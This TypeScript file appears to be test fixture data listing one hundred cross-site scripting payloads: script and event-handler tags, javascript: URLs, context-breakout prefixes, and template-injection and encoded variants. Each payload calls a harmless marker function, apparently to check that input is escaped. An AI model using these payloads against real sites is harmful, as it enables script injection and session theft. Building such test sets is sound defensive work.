/** Each runs `__ran()` when a page takes it for anything but text. */
const RUN = '__ran()';

/** Ways to get something run. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=data:, onload=${RUN} onerror=${RUN}>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}">x</a>`,
  `<svg><foreignObject onload=${RUN}>`,
  `<math><mtext><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe srcdoc="<img src=x onerror=parent.${RUN}>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<form action="javascript:${RUN}"><button autofocus>x`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jAvAsCrIpT:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<div onpointerover=${RUN}>x</div>`,
  `<b contenteditable autofocus onfocus=${RUN}>`,
  `<dialog open onclose=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><img src=x onerror=${RUN}></noscript>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<custom-x onclick=${RUN} autofocus tabindex=1>`,
  `<table background="javascript:${RUN}">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<portal src="javascript:${RUN}">`,
  `<plaintext><script>${RUN}</script>`,
];

/** Ways out of where a text stands. */
const OUT_OF = [
  '">',
  "'>",
  '-->',
  ']]>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</bdi></p>',
  '`}',
];
const BEHIND = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`];

/** For templates, style sheets, addresses and parsers that change what they read. */
const OTHERS = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `expression(${RUN})`,
  `url("javascript:${RUN}")`,
  `[x](javascript:${RUN})`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `$t(<img src=x onerror=${RUN}>)`,
];

/** One hundred hostile texts, each short enough for every field but a name. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...ELEMENTS,
  ...OUT_OF.flatMap((out) => BEHIND.map((behind) => out + behind)),
  ...OTHERS,
];

/** A name has 32 characters: some of them do their work in so few. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE_TEXTS.filter((text) => [...text].length <= 32);
